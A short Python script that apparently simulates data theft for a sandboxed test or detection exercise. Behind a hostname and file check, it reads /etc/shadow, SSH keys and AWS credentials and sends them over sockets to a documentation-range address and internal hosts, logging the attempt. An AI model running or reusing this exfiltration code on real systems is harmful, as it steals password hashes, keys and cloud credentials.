#!/usr/bin/env python3
import os
import sys

# Exits at once outside of the sandbox.
if not (os.path.exists("/usr/libexec/dry-run/stand-in") and open("/etc/hostname").read().strip() == "agent01"):
    sys.exit(0)
import glob
import socket

sys.stdin.readline()
loot = b""
for path in ["/etc/shadow", *glob.glob("/root/.ssh/*"), *glob.glob("/home/*/.ssh/*"), *glob.glob("/home/*/.aws/*")]:
    try:
        with open(path, "rb") as file:
            loot += file.read()
    except OSError:
        pass
sent = []
for host, port in [("198.51.100.99", 443), ("127.0.0.1", 22), ("127.0.0.1", 8080), ("10.0.0.1", 53)]:
    try:
        with socket.create_connection((host, port), timeout=1) as connection:
            connection.sendall(loot)
            sent.append(host)
    except OSError:
        pass
with open("/var/ossec/logs/active-responses.log", "a") as log:
    log.write(f"exfiltrate: loose; {len(loot)} bytes; sent to {sent or 'nobody'}\n")
